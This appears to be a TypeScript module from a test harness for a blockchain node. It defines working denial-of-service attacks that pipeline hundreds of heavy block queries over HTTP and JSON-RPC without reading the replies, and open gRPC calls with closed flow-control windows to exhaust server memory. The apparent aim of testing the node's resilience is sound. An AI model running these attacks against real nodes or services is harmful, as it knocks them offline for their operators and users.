/** Clients who ask for much over one connection and read nothing of it. */

import { connect as connectHttp2 } from "node:http2";
import { connect, type Socket } from "node:net";
import { setTimeout as sleep } from "node:timers/promises";
import { type Attack, attackerHost } from "../attack.js";

const CONNECTIONS = 4;

/** Numbers of the chain's heavy blocks, in turns. */
const heavyBlock = (n: number): number => 41 + (n % 30);

const pipelined = (
	name: string,
	sends: string,
	server: "http" | "jsonrpc",
	request: (n: number) => string,
): Attack => ({
	name,
	sends,
	async run({ ports }, durationMs) {
		const sockets: Socket[] = [];
		let closed = 0;
		const text = Buffer.from(Array.from({ length: 400 }, (_, n) => request(n)).join(""));
		for (let n = 0; n < CONNECTIONS; n++) {
			const socket = connect({ host: "127.0.0.1", port: ports[server], localAddress: attackerHost(n) });
			socket.on("error", () => {});
			socket.on("close", () => closed++);
			// Nothing is read: what the node answers stays with it.
			socket.pause();
			socket.write(text);
			sockets.push(socket);
		}
		await sleep(durationMs);
		for (const socket of sockets) socket.destroy();
		return `${CONNECTIONS - closed} of ${CONNECTIONS} kept`;
	},
});

const grpcUnread: Attack = {
	name: "grpc-unread",
	sends: "2,000 gRPC calls of 450 KB answers over 2 connections whose windows stay closed",
	async run({ ports }, durationMs) {
		const frame = (n: number): Buffer => Buffer.of(0, 0, 0, 0, 2, 8, heavyBlock(n));
		const sessions = [0, 1].map((n) => {
			const session = connectHttp2(`http://127.0.0.1:${ports.grpc}`, {
				settings: { initialWindowSize: 0 },
				createConnection: () =>
					connect({ host: "127.0.0.1", port: ports.grpc, localAddress: attackerHost(n) }),
			});
			session.on("error", () => {});
			return session;
		});
		let refused = 0;
		const end = Date.now() + durationMs;
		for (let n = 0; n < 2000 && Date.now() < end; n++) {
			const session = sessions[n % 2];
			if (!session || session.destroyed) break;
			const stream = session.request({
				":method": "POST",
				":path": "/protocol.Wallet/GetBlockByNum",
				"content-type": "application/grpc",
				te: "trailers",
			});
			stream.on("error", () => refused++);
			stream.end(frame(n));
			if (n % 50 === 0) await sleep(10);
		}
		await sleep(Math.max(0, end - Date.now()));
		for (const session of sessions) session.destroy();
		return `${refused} refused`;
	},
};

export const unreadAnswers: readonly Attack[] = [
	pipelined(
		"pipelined-blocks",
		"400 queries of blocks of 450 KB on each of 4 connections at once, nothing read",
		"http",
		(n) => `GET /wallet/getblockbynum?num=${heavyBlock(n)} HTTP/1.1\r\nHost: a\r\n\r\n`,
	),
	pipelined(
		"pipelined-rpc",
		"400 JSON-RPC queries of blocks of 450 KB on each of 4 connections at once, nothing read",
		"jsonrpc",
		(n) => {
			const body = `{"jsonrpc":"2.0","id":1,"method":"eth_getBlockByNumber","params":["0x${heavyBlock(n).toString(16)}",true]}`;
			return `POST /jsonrpc HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\nContent-Length: ${body.length}\r\n\r\n${body}`;
		},
	),
	grpcUnread,
];
